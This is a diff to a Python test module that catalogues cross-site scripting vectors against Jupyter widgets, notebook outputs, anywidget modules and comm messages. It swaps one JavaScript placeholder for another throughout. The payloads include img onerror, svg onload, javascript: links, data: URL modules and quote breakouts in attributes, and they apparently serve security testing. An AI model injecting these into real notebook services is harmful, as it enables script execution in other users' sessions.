@@ -9,14 +9,14 @@ from tests.attacks.xss.payloads import Payload, Vector, numbered
 
 _W = "import ipywidgets as w\nfrom IPython.display import display\n"
 _VIEW = "application/vnd.jupyter.widget-view+json"
-IMG = "<img src=x onerror=%JSQ%>"
+IMG = "<img src=x onerror=%JS%>"
 
 STATES: tuple[Vector, ...] = (
     ("HTML value", f"w.HTML('''{IMG}''')"),
     ("HTML script", "w.HTML('''<script>%JS%</script>''')"),
     ("HTML link", "w.HTML('''<a href=\"javascript:%JS%\">a link</a>''')"),
-    ("HTML svg", "w.HTML('''<svg onload=%JSQ%></svg>''')"),
-    ("HTML iframe", "w.HTML('''<iframe srcdoc=\"<script>parent.%JSQ%</script>\">''')"),
+    ("HTML svg", "w.HTML('''<svg onload=%JS%></svg>''')"),
+    ("HTML iframe", "w.HTML('''<iframe srcdoc=\"<script>parent.%JS%</script>\">''')"),
     ("HTML asks", "w.HTML('''<img src=\"%URL%\">''')"),
     ("HTML style asks", "w.HTML('''<style>*{background:url(%URL%)}</style>''')"),
     ("HTMLMath value", f"w.HTMLMath('''{IMG} $x$''')"),
@@ -29,7 +29,7 @@ STATES: tuple[Vector, ...] = (
     ),
     (
         "description",
-        f"w.Text(description='''{IMG}''', placeholder='''\"onfocus=%JSQ%''')",
+        f"w.Text(description='''{IMG}''', placeholder='''\"onfocus=%JS%''')",
     ),
     (
         "checkbox description",
@@ -37,8 +37,8 @@ STATES: tuple[Vector, ...] = (
     ),
     (
         "tooltip",
-        f"w.Button(description='''{IMG}''', tooltip='''\" onclick=%JSQ%''', "
-        "icon='''x\" onclick=%JSQ%''')",
+        f"w.Button(description='''{IMG}''', tooltip='''\" onclick=%JS%''', "
+        "icon='''x\" onclick=%JS%''')",
     ),
     ("options", f"w.Dropdown(options=['''{IMG}''', 'b'])"),
     ("radio options", f"w.RadioButtons(options=['''{IMG}''', 'b'])"),
@@ -56,7 +56,7 @@ STATES: tuple[Vector, ...] = (
     ("style colour", "w.Button(style={'button_color': 'url(%URL%)'})"),
     (
         "image format breaks out",
-        "w.Image(value=b'<svg onload=%JSQ%>', format='svg+xml\" onerror=%JSQ% x=\"')",
+        "w.Image(value=b'<svg onload=%JS%>', format='svg+xml\" onerror=%JS% x=\"')",
     ),
     (
         "image of svg",
@@ -66,11 +66,11 @@ STATES: tuple[Vector, ...] = (
     ("image by address", "w.Image.from_url(b'%URL%')"),
     ("video by address", "w.Video.from_url('%URL%')"),
     ("audio of html", "w.Audio(value=b'<script>%JS%</script>', format='html')"),
-    ("file upload accept", "w.FileUpload(accept='''\" onclick=%JSQ%''')"),
+    ("file upload accept", "w.FileUpload(accept='''\" onclick=%JS%''')"),
     ("valid readout", f"w.Valid(value=False, readout='''{IMG}''')"),
     (
         "class names",
-        "(lambda b: (b.add_class('jp-Dialog'), b.add_class('x\" onclick=%JSQ%'),"
+        "(lambda b: (b.add_class('jp-Dialog'), b.add_class('x\" onclick=%JS%'),"
         " b)[-1])(w.Button(description='x'))",
     ),
 )
@@ -79,7 +79,7 @@ OUTPUTS: tuple[Vector, ...] = (
     (
         "Output html",
         '{"output_type": "display_data", "metadata": {}, '
-        '"data": {"text/html": "<img src=x onerror=%JSQ%>"}}',
+        '"data": {"text/html": "<img src=x onerror=%JS%>"}}',
     ),
     (
         "Output javascript",
@@ -89,17 +89,17 @@ OUTPUTS: tuple[Vector, ...] = (
     (
         "Output svg",
         '{"output_type": "display_data", "metadata": {}, '
-        '"data": {"image/svg+xml": "<svg onload=%JSQ%></svg>"}}',
+        '"data": {"image/svg+xml": "<svg onload=%JS%></svg>"}}',
     ),
     (
         "Output markdown",
         '{"output_type": "display_data", "metadata": {}, '
-        '"data": {"text/markdown": "[a link](javascript:%JSQ%)"}}',
+        '"data": {"text/markdown": "[a link](javascript:%JS%)"}}',
     ),
     (
         "Output error",
-        '{"output_type": "error", "ename": "<img src=x onerror=%JSQ%>", '
-        '"evalue": "", "traceback": ["<img src=x onerror=%JSQ%>"]}',
+        '{"output_type": "error", "ename": "<img src=x onerror=%JS%>", '
+        '"evalue": "", "traceback": ["<img src=x onerror=%JS%>"]}',
     ),
 )
 
@@ -107,9 +107,9 @@ OUTPUTS: tuple[Vector, ...] = (
 MODULES: tuple[Vector, ...] = (
     (
         "anywidget module",
-        "{'_esm': 'xss(`%ID%`);export default {render({el}){%JSQ%}}'}",
+        "{'_esm': '%JS%;export default {render({el}){%JS%}}'}",
     ),
-    ("anywidget by data:", "{'_esm': 'data:text/javascript,%JSQ%'}"),
+    ("anywidget by data:", "{'_esm': 'data:text/javascript,%JS%'}"),
     ("anywidget by address", "{'_esm': '%URL%.mjs'}"),
     (
         "anywidget styles",
@@ -125,7 +125,7 @@ MODULES: tuple[Vector, ...] = (
 NAMES: tuple[Vector, ...] = (
     ("module from an address", "'%URL%', '1.0.0'"),
     ("module from unpkg", "'../../%URL%?x=', '*'"),
-    ("module of javascript:", "'data:text/javascript,%JSQ%//', '1'"),
+    ("module of javascript:", "'data:text/javascript,%JS%//', '1'"),
     ("module of the room's files", "'/user/room-abcdefghij/files/x.js?', '1'"),
 )
 
@@ -163,7 +163,7 @@ OTHERS: tuple[Vector, ...] = (
     (
         "view with a fallback",
         f"from IPython.display import display\ndisplay({{{_VIEW!r}: "
-        "{'version_major': 2, 'version_minor': 0, 'model_id': '<img src=x onerror=%JSQ%>'},"
+        "{'version_major': 2, 'version_minor': 0, 'model_id': '<img src=x onerror=%JS%>'},"
         f" 'text/html': '{IMG}'}}, raw=True)",
     ),
     (
@@ -174,21 +174,21 @@ OTHERS: tuple[Vector, ...] = (
     (
         "comm of a command",
         "from comm import create_comm\nc = create_comm('jupyterlab', data="
-        "{'command': 'apputils:run-all-enabled', 'html': '<img src=x onerror=%JSQ%>'})",
+        "{'command': 'apputils:run-all-enabled', 'html': '<img src=x onerror=%JS%>'})",
     ),
     (
         "comm of an unknown target",
-        "from comm import create_comm\nc = create_comm('%ID%<img src=x onerror=%JSQ%>', "
+        "from comm import create_comm\nc = create_comm('%ID%<img src=x onerror=%JS%>', "
         "target_module='%URL%')",
     ),
     (
         "custom message",
         _W + "b = w.HTML('x')\ndisplay(b)\n"
-        "b.send({'event': 'click', 'html': '<img src=x onerror=%JSQ%>'})",
+        "b.send({'event': 'click', 'html': '<img src=x onerror=%JS%>'})",
     ),
     (
         "later value",
-        _W + "b = w.HTML('x')\ndisplay(b)\nb.value = '''<img src=x onerror=%JSQ%>'''",
+        _W + "b = w.HTML('x')\ndisplay(b)\nb.value = '''<img src=x onerror=%JS%>'''",
     ),
 )
 
